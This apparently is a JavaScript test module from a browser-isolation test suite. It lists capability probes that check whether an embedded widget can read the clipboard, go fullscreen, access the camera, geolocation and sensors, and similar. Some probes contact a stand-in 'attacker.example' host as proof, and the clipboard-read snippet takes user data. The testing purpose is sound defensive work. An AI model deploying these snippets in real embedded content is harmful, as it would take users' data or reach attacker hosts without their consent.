import { attacksOf } from '../attack.js';

/** Powers of the browser that a page may have and a widget has not. A success prints its own token. */
export const capability = attacksOf(
  'capability',
  {
    'clipboard read': { onPoke: `const read = await navigator.clipboard.readText(); $.loot(read + $.token);`, poke: 'click' },
    'clipboard written': { onPoke: `await navigator.clipboard.writeText('pay ' + $.token); $.loot($.token);`, poke: 'click' },
    'clipboard written by command': { onPoke: `const field = $.put('textarea', { value: $.token }); field.select(); if (document.execCommand('copy')) $.loot($.token);`, poke: 'click' },
    'clipboard written by the copy event': { code: `document.addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', $.token); event.preventDefault(); $.loot($.token); });`, onPoke: `const field = $.put('textarea', { value: 'x' }); field.select(); document.execCommand('copy');`, poke: 'click' },
    'clipboard read by pasting': { onPoke: `const field = $.put('textarea', {}); field.focus(); field.addEventListener('paste', () => $.loot($.token)); document.execCommand('paste'); await navigator.clipboard.read(); $.loot($.token);`, poke: 'click' },
    'full screen': { onPoke: `await document.documentElement.requestFullscreen(); $.loot($.token);`, poke: 'click', scene: 'alone' },
    'full screen by the old name': { onPoke: `document.addEventListener('webkitfullscreenchange', () => $.loot($.token)); document.documentElement.webkitRequestFullscreen();`, poke: 'click', scene: 'alone' },
    'pointer lock': { onPoke: `await document.body.requestPointerLock(); if (document.pointerLockElement) $.loot($.token);`, poke: 'click', scene: 'alone' },
    'keyboard layout': `const map = await navigator.keyboard.getLayoutMap(); $.loot(map.size + $.token);`,
    geolocation: `await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)); $.loot($.token);`,
    camera: `await navigator.mediaDevices.getUserMedia({ video: true }); $.loot($.token);`,
    'notification permission': `if ((await Notification.requestPermission()) === 'granted') $.loot($.token);`,
    'motion sensors': `const state = await new Promise((resolve, reject) => { const sensor = new Accelerometer(); sensor.onerror = () => reject(); sensor.onactivate = resolve; sensor.start(); setTimeout(reject, 1000); }).catch(() => 0); if (state || (await navigator.permissions.query({ name: 'accelerometer' })).state === 'granted') $.loot($.token);`,
    'local fonts': { onPoke: `const fonts = await queryLocalFonts(); if (fonts.length) $.loot($.token);`, poke: 'click' },
    'storage kept for ever': `if (typeof (await navigator.storage.persist()) === 'boolean') $.loot($.token);`,
    'payment': { onPoke: `const request = new PaymentRequest([{ supportedMethods: 'https://' + $.token + '.attacker.example:' + $.tcp + '/' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }); await request.canMakePayment();`, poke: 'click', proof: 'sink' },
    'login by another site': { code: `await navigator.credentials.get({ identity: { providers: [{ configURL: 'https://' + $.token + '.attacker.example:' + $.tcp + '/fedcm.json', clientId: 'x' }] } });`, proof: 'sink' },
    'memory of the page measured': { code: `const memory = performance.memory ?? (await performance.measureUserAgentSpecificMemory()); if (memory) $.loot($.token);`, open: 'it tells, roughly, of the process that the frame has to itself' },
    'gamepads': `navigator.getGamepads(); $.loot($.token);`,
    'battery': `const battery = await navigator.getBattery(); $.loot(battery.level + $.token);`,
    'speech': { onPoke: `speechSynthesis.speak(new SpeechSynthesisUtterance('x')); if (speechSynthesis.pending || speechSynthesis.speaking) $.loot($.token);`, poke: 'click' },
  },
  { proof: 'loot' },
);
